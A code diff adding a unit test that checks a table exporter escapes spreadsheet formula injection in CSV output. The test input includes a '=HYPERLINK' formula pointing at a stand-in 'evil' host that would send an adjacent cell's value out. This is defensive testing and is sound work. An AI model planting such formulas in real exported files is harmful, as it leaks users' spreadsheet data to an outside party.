@@ -48,6 +48,16 @@ def test_exported_as_values() -> None:
     assert [row["state"] for row in content] == ["WRONG", None, "ok"]
 
 
+def test_no_spreadsheet_takes_what_clients_call_their_requests_for_a_formula() -> None:
+    table = Table(
+        (Column("request"), Column("change")),
+        [Row("1", (Cell('=HYPERLINK("http://evil/"&A2)'), Cell("-5", -5))), Row("2", (Cell("@x"), Cell("+1", 1)))],
+    )
+    lines = list(csv.reader(io.StringIO(as_csv(table, table.rows))))
+    assert lines[1:] == [['\'=HYPERLINK("http://evil/"&A2)', "-5"], ["'@x", "1"]]
+    assert json.loads(as_json(table, table.rows))[1]["request"] == "@x"
+
+
 @given(st.floats(0, 1), st.integers(1, 60))
 def test_a_bar_is_as_long_as_it_says(share: float, width: int) -> None:
     for glyphs in (UNICODE, ASCII):
